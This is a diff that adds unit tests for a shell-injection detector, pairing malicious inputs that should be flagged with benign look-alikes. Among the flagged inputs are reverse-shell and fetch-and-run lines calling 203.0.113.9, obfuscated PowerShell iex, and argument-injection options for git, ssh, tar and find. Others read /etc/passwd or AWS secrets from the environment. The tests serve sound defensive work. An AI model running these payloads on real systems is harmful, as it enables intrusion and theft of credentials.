@@ -800,3 +800,184 @@ t.test('a first word past 64 characters: its end and its `! : %` are found as th
     }
   }
 });
+
+t.test('an apostrophe after a command word on a line of text: the rest of the line is prose', async (t) => {
+  // The lexer ends at an unmatched quote; the words after a contraction were not counted as prose.
+  for (const v of [
+    'Hi,\nwget doesn\'t work on my machine\nplease advise',
+    'Hi,\nwget doesn\'t work',
+    'Hi,\ncurl isn\'t installed\nthanks',
+    'Hi,\nssh won\'t connect to the server',
+    'Hi,\ndocker isn\'t starting',
+    'Hi,\nls doesn\'t show hidden files',
+    'Hi,\nwhoami doesn\'t return my name',
+    'x; grep doesn\'t match',
+  ]) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  // Evidence before the apostrophe still decides; so does a pipe or a path.
+  for (const v of [
+    'x\ncat /etc/passwd doesn\'t matter',
+    ";cat /etc/passwd'",
+    'x\nwget http://203.0.113.9/x.sh -O /tmp/x.sh it\'s',
+    'x;wget 203.0.113.9/x|sh;it\'s',
+    'x\nnc -e /bin/sh 203.0.113.9 4444 it\'s',
+    'x\nuname -a\nit\'s me',
+  ]) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('a `;` column list ending a field with id/last is data; the attack spellings stay high', async (t) => {
+  for (const v of ['first;last;id', 'name;age;id', 'name;age;id;email', 'user_name;user_id;id', 'first;last;id\nJohn;Doe;5', 'first;last;email']) {
+    const d = detectShellInjection(v);
+    t.equal(d?.confidence, 'medium', JSON.stringify(v));
+  }
+  for (const v of [
+    'a;id',
+    'first;last',
+    'a;b;whoami',
+    'a;b;env',
+    'a;b;set',
+    'a;b;id;',
+    ';a;b;id',
+    'a;;b;id',
+    'a;b;id -a',
+    'a;b;id|x',
+    'who;ps;id',
+    '127.0.0.1;x;id',
+    'example.com;x;id',
+  ]) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('PowerShell backticks inside a command name (ticks), and script blocks run in place', async (t) => {
+  for (const v of [
+    "x;i`e`x 'whoami'",
+    "x;ie`x('whoami')",
+    "x;Inv`oke-Exp`ression 'whoami'",
+    'x;wh`oami',
+    'x | Get-Ch`ildItem',
+    '$(i`e`x "whoami")',
+    'x;n`et user',
+    'x;r`eg query HKLM',
+    'x;&{whoami}',
+    'x;& {whoami}',
+    'x;. { ipconfig }',
+    'x|%{whoami}',
+    'x;1|%{iex $_}',
+    'x;icm {whoami}',
+    'x;ICM{n`et user}',
+    "x;&{iex 'whoami'}",
+  ]) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  for (const v of [
+    'He wrote i`e`x in the markdown',
+    'SELECT `db`.`users` FROM x',
+    'use`git`to',
+    'x;n`et profit margins',
+    'x;{whoami}',
+    'Use &{ } for blocks',
+    'Use &{whoami} in PowerShell',
+    '{"a":{"b":"whoami"}}',
+    '%{whoami}',
+    'Academic {whoami}',
+    'Hello {{name}}, your order {id} shipped',
+  ]) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('command paths with empty or `.` segments, and a wildcard directory before a wildcard name', async (t) => {
+  for (const v of [';/usr/./bin/whoami', ';/./bin/whoami', ';//bin//whoami', ';/usr//bin/id', 'x|/bin/./sh', ';/*/who*mi', 'x;/*/n?at -e sh 203.0.113.9 80', '/*/who*mi']) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  for (const v of ['/* comment */', '/* who*mi', ';/*/*', 'See /*/docs* for details', 'path: /usr/./lib', 'x;/*/ab*']) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('a first line that ends in a colon is a heading, not the argument of a sink', async (t) => {
+  for (const v of ['Ingredients:\nsalt\npepper\ntime', 'Items:\ndate', 'Items:\nsalt\nsort', 'Notes:\r\nid']) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  for (const v of ['127.0.0.1\nid', 'host:80\nid', 'example.com\ndate', 'x:\nuname -a', 'abc:\ncat /etc/passwd']) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('an unset variable whose default value is the command', async (t) => {
+  for (const v of [';${x:-whoami}', ';${x:-id}', ';${x:=whoami}', ';${x-whoami}', ';${x:-/bin/sh} -c id', 'a|${x:-sh}', '${x:-cat} /etc/passwd']) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  // `${x:+…}` expands to nothing when x is unset; Spring-style names; defaults that are no command.
+  for (const v of [';${x:+whoami}', '${server-id}', 'x;${x-id}', '${PORT:-8080}', 'value: ${EDITOR:-vim}', '${x:-whoami}']) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('argument injection: options that make git, ssh, tar, find, zip, sendmail run a program', async (t) => {
+  for (const v of [
+    '--upload-pack=touch /tmp/pwn',
+    '--upload-pack touch /tmp/pwn',
+    ' --receive-pack=x y',
+    '-o ProxyCommand=id',
+    '-oProxyCommand=curl 203.0.113.9|sh',
+    '--checkpoint-action=exec=sh /tmp/x',
+    '-c core.sshCommand=id',
+    '-c core.pager=id log',
+    '--config core.fsmonitor=id x',
+    '-c protocol.ext.allow=always',
+    'ext::sh -c touch% /tmp/pwned',
+    '-exec id ;',
+    '-exec /bin/sh -c id ;',
+    '-TT=/tmp/x.sh x',
+    '-TT id',
+    '-OQueueDirectory=/tmp -X/var/www/html/x.php',
+    '--to-command=id x',
+  ]) {
+    t.equal(detectShellInjection(v)?.rule, 'shell.argument-injection', JSON.stringify(v));
+    t.equal(detectShellInjection(v, charMask(v))?.confidence, 'high', JSON.stringify(v));
+  }
+  for (const v of ['-c', '--exec', '-1', '--help', '-verbose', '-exercise more', 'extra cheese please', '-colors: red', '-c cores needed: 4', '-contact me', '-o output.txt', '--output=report.pdf', '-tt', '- exec the plan', '-exec summary attached', '-TT is my gamer tag', '-x/y coordinates', '-X/Y axis', '-c core.editor=vim']) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  // Without a blank or a shell character the engine's gate never calls the detector: no finding
+  // either way, with or without the mask.
+  for (const v of ['--to-command=id', '-oProxyCommand=id', 'ext::sh']) {
+    t.equal(detectShellInjection(v), undefined, v);
+    t.equal(detectShellInjection(v, charMask(v)), undefined, v);
+  }
+});
+
+t.test("cmd's @ and call before a command; PowerShell's environment read as a statement or a drive", async (t) => {
+  for (const v of ['x&@whoami', 'x&call who^ami', 'x & call whoami', 'x;$env:AWS_SECRET_ACCESS_KEY', 'x|$env:AzureWebJobsStorage;', 'x; $env:PATH', 'x;gci env:', 'x;Get-Item Env:AWS_SECRET_ACCESS_KEY', 'x;type env:AWS_SESSION_TOKEN']) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  for (const v of [
+    'Contact @whoami on twitter',
+    'x & @user123 said hi',
+    '@mention me',
+    'x & call me maybe',
+    '$env:USERNAME is your login',
+    'Your $env:HOME variable',
+    'a; $env:x = 1',
+    'cd app; $env:NODE_ENV = "production"; npm start',
+    'x; $env:PATH variable is long',
+    'Team; gi joe',
+    'x; env: prod',
+  ]) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
+
+t.test('a quote break-out with blanks around the separator and a bare command, reopened or commented out', async (t) => {
+  for (const v of ["x' ; id ; '", "x' ; id #", 'x" && id && "', 'x" ; who #', "Tom' ; id '"]) {
+    t.equal(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+  for (const v of ["x' ; date ; '", "It's fine ; id card ready'", "Rock 'n' roll ; id", "Rock 'n' roll ; id '", "He said 'hi' ; id 'x'", "x' ; id card ; '"]) {
+    t.not(detectShellInjection(v)?.confidence, 'high', JSON.stringify(v));
+  }
+});
